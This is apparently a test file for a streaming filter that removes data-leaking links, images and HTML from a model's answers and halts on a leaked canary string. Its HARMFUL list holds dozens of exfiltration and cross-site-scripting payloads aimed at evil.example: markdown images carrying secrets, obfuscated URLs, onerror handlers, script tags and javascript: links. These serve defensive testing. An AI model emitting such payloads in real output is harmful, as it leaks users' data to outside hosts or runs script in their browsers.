import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createOutputGuard, type OutputGuardOptions } from './create-output-guard.ts';

const OPTIONS: OutputGuardOptions = { hosts: ['docs.example', '*.listed.example'] };

function guard(text: string, cut = text.length, options = OPTIONS): { text: string; removed: number } {
  const watching = createOutputGuard(options);
  let output = '';
  for (let at = 0; at < text.length; at += Math.max(1, cut))
    output += watching.push(text.slice(at, at + Math.max(1, cut)));
  return { text: output + watching.end(), removed: watching.removed };
}

/** Ways to make a page fetch something from another host, or a person follow there. */
const HARMFUL = [
  '![a](https://evil.example/?q=secret)',
  '[a](https://evil.example/secret)',
  '[a](<https://evil.example/a b> "title")',
  '[a](\n  https://evil.example)',
  '![a](//evil.example/x.png)',
  '![a](\\\\evil.example/x.png)',
  '![a](/\\evil.example/x.png)',
  '![a](\\/\\/evil.example/x.png)',
  '![a](https:evil.example/x.png)',
  '![a](&#104;ttps&#58;//evil.example)',
  '![a](https&colon;//evil.example)',
  '![a](https://docs.example@evil.example/)',
  '![a](https://docs.example.evil.example/)',
  '![a](https://evil.example\\@docs.example/)',
  '[a](javascript:alert(1))',
  '[a](data:text/html,x)',
  '[a](mailto:evil@evil.example?body=secret)',
  '[a](https://docs.example/![b](//evil.example/q))',
  '[a]: https://evil.example/\n![b][a]',
  '[a]:\n<//evil.example>',
  '<https://evil.example/secret>',
  '<mailto:evil@evil.example>',
  'https://evil.example/secret',
  'HTTPS://EVIL.EXAMPLE',
  'http://evil.example',
  'ftp://evil.example/',
  'www.evil.example/secret',
  "https://docs.example'@evil.example/",
  "https://docs.example'.evil.example/",
  'https://docs.example)@evil.example/',
  'https://docs.example](@evil.example/',
  'https://docs.example\u3002evil.example/',
  '[https://docs.example/](https://evil.example/)',
  '<img src=https://evil.example/x>',
  '<img src="//evil.example/x">',
  "<IMG/SRC='\\\\evil.example'>",
  '<img src=//evil.example/x=1>',
  '<img alt=">" src=//evil.example>',
  '<img srcset="//evil.example 2x">',
  '<a href="java\tscript:x">a</a>',
  '<a href="/" ping="//evil.example">a</a>',
  '<div style="background:url(//evil.example)">a</div>',
  '<img src=x onerror="location=name">',
  '<script>top.location=name</script>',
  '<base href="//evil.example">',
  '<svg><image href="//evil.example"/></svg>',
  '<a ![x](https://evil.example)>',
  '<a title="\n\n![x](//evil.example)">',
  '<!-- <a title=" --><img src=//evil.example> <b title="">',
  '<a <img src="//evil.example">',
  `![a](https://evil.example/${'q'.repeat(5000)})`,
  `<img alt="${'x'.repeat(3000)}" src="//evil.example">`,
]; // prettier-ignore

/** What a reader wants to keep. */
const HARMLESS = [
  'The dose was halved [1], see [2, 3].',
  '[guide](https://docs.example/a?b=c#d "title") and ![i](https://img.listed.example:8443/x.png)',
  'See https://docs.example/a, or (http://docs.example).',
  'At www.listed.example? No: www.docs.listed.example.',
  '[page](/path/x.html) [top](#top) ![i](images/a.png) [q](?a=1&b=2)',
  '[1]: see the note\n[2]: Note: this',
  '<b>bold</b> <br/> <a href="/x" title="What it is">x</a> <td colspan=2>',
  'if a < b and c > d; Array<string>; <jo@x.example>; x <- y; 5 </ 6',
  '| https://docs.example | `https://docs.example` |',
  'awww. h ht http https: // ] [a] (b) ](',
  '<https://docs.example/a>',
  '"https://" + host',
  '[[EMAIL_k7q2m3x]] wrote \u2039x\u203a',
]; // prettier-ignore

describe('the guard over an answer', () => {
  it.each(HARMFUL)('removes %j', (text) => {
    const guarded = guard(`Before. ${text} After.`);
    // Behind the typographic bracket of a disarmed tag, attributes are words.
    const live = guarded.text.replace(/\u2039[^<>]*>/g, '');
    expect(live).not.toMatch(/(?:\]\(|\]:\s*|<[^>]*|\/\/|\\\\|www\.|@)[^\s)]*evil/i);
    expect(live).not.toMatch(/<script|javascript:|<[^>]*(?:onerror|style|ping)/i);
    expect(guarded.text).toMatch(/^Before\. /);
    expect(guarded.text).toMatch(/After\.$/);
  });

  it('is what removes them: with the hosts on the list the plain ones stay', () => {
    const listed = { hosts: ['evil.example', 'docs.example', 'docs.example.evil.example'] };
    const kept = HARMFUL.filter((text) => guard(text, text.length, listed).text === text);
    expect(kept.length).toBeGreaterThan(15);
    for (const text of kept) expect(guard(text).removed).toBeGreaterThan(0);
  });

  it.each(HARMLESS)('keeps %j', (text) => {
    expect(guard(text)).toEqual({ text, removed: 0 });
  });

  it('gives the same for every cut', () => {
    for (const text of [...HARMFUL, ...HARMLESS]) {
      const whole = guard(`${text} ${text}`);
      for (const cut of [1, 2, 3, 7, 50]) expect(guard(`${text} ${text}`, cut)).toEqual(whole);
    }
    const pieces = [
      '<',
      '>',
      '](',
      ']:',
      'https://',
      'docs.example',
      'evil.example',
      ' ',
      '"',
      "'",
      '=',
      '/',
      '\\',
      'a',
      'href',
      'www.',
      '\n',
      '@',
      ')',
      'x@y',
    ];
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...pieces), { maxLength: 30 }),
        fc.integer({ min: 1, max: 9 }),
        (parts, cut) => {
          expect(guard(parts.join(''), cut)).toEqual(guard(parts.join('')));
        },
      ),
      { numRuns: 500 },
    );
  });

  it('holds back little: nothing of plain text, a link at most', () => {
    const watching = createOutputGuard(OPTIONS);
    expect(watching.push('Plain text goes on ')).toBe('Plain text goes on ');
    expect(watching.push(`[a](https://docs.example/${'x'.repeat(10_000)}`).length).toBeLessThan(100);
    expect(watching.push('). More text. ')).toContain('More text. ');
    expect(createOutputGuard().push(`<${'a '.repeat(3000)}`).length).toBeGreaterThan(6000 - 2100);
  });

  it('takes host names only', () => {
    for (const host of ['https://x.example', 'x.example/', 'X.example', '', 'a b', '*', '*.', 'x.example:80'])
      expect(() => createOutputGuard({ hosts: [host] })).toThrow(expect.objectContaining({ code: 'ERR_PROMPT_HOST' }));
  });
});

describe('the canary', () => {
  const canary = 'k7q2m3x9a1';
  it.each([canary, canary.toUpperCase(), canary.split('').join(' '), canary.split('').join('-\n'), '\uff4b7q2m3x9a1'])(
    'stops an answer that says %j, whole or in pieces',
    (said) => {
      const stopped = expect.objectContaining({ code: 'ERR_PROMPT_CANARY' });
      expect(() => guard(`It is ${said}.`, 1000, { canary })).toThrow(stopped);
      expect(() => guard(`It is ${said}.`, 1, { canary })).toThrow(stopped);
      expect(guard(`It is ${said.slice(0, -1)}.`, 1, { canary }).text).toContain('It is');
    },
  );
});
